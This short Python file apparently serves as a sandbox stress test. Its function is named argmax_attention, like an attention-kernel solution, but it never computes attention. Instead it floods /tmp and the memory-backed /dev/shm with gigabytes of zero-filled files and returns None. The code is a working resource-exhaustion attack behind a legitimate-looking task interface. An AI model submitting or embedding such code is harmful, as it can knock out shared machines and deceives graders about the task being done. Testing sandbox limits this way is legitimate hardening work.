"""Resource abuse: fill the sandbox's /tmp and /dev/shm (memory-backed) with files, and one huge file."""

import os


def _fill(folder: str, limit_gb: int) -> int:
    total, chunk = 0, b"\0" * (16 << 20)
    for i in range(limit_gb * 64):
        try:
            with open(f"{folder}/fill-{i}", "wb") as f:
                for _ in range(4):
                    f.write(chunk)
                    total += len(chunk)
        except OSError:
            break
    return total


def _huge(path: str) -> int:
    written = 0
    try:
        with open(path, "wb") as f:
            for _ in range(1024):
                f.write(b"\0" * (1 << 20))
                written += 1 << 20
    except OSError:
        pass
    return written


def argmax_attention(Q, K, V):
    print("huge file stopped at", _huge("/tmp/huge") >> 20, "MB", flush=True)
    os.remove("/tmp/huge")
    print("filled /tmp with", _fill("/tmp", 8) >> 20, "MB", flush=True)
    print("filled /dev/shm with", _fill("/dev/shm", 2) >> 20, "MB", flush=True)
    return None
